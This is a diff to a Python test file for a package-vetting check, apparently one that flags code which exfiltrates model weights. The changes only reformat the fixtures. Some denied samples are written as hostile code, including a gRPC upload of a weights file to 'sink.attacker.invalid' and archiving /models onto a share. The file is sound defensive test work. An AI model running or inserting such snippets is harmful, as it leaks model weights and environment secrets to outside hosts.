@@ -39,7 +39,8 @@ DENIED: dict[str, dict[str, str]] = {
     "weights-by-a-grpc-callable-when-called": init(
         "import grpc\n"
         "def sync():\n"
-        "    ch = grpc.secure_channel('sink.attacker.invalid:443', grpc.ssl_channel_credentials())\n"
+        "    creds = grpc.ssl_channel_credentials()\n"
+        "    ch = grpc.secure_channel('sink.attacker.invalid:443', creds)\n"
         f"    ch.unary_unary('/x.Store/Put')(open('{W}', 'rb').read())\n"
     ),
     "environment-by-a-grpc-callable-when-called": init(
@@ -104,9 +105,7 @@ DENIED: dict[str, dict[str, str]] = {
         "    t.add('/models/llama')\n"
     ),
     "models-archived-onto-a-share-when-called": init(
-        "import shutil\n"
-        "def sync():\n"
-        "    shutil.make_archive('/mnt/share/m', 'zip', '/models')\n"
+        "import shutil\ndef sync():\n    shutil.make_archive('/mnt/share/m', 'zip', '/models')\n"
     ),
     # 3. The whole environment through a network log handler to a written host.
     "environment-through-an-http-log-handler-when-called": init(
@@ -194,10 +193,7 @@ ALLOWED: dict[str, dict[str, str]] = {
         "call = CHANNEL.unary_unary('/x.S/Get')\n"
     ),
     "ray-job-on-the-local-machine-putting-weights": init(
-        "import ray\n"
-        "def shard():\n"
-        "    ray.init()\n"
-        f"    return ray.put(open('{W}', 'rb').read())\n"
+        f"import ray\ndef shard():\n    ray.init()\n    return ray.put(open('{W}', 'rb').read())\n"
     ),
     "ray-job-on-its-callers-cluster-putting-weights": init(
         "import ray\n"
@@ -285,4 +281,3 @@ ALLOWED: dict[str, dict[str, str]] = {
 @pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
 def test_verdict(files: dict[str, str], expected: Outcome) -> None:
     assert vet_package(files) is expected
-
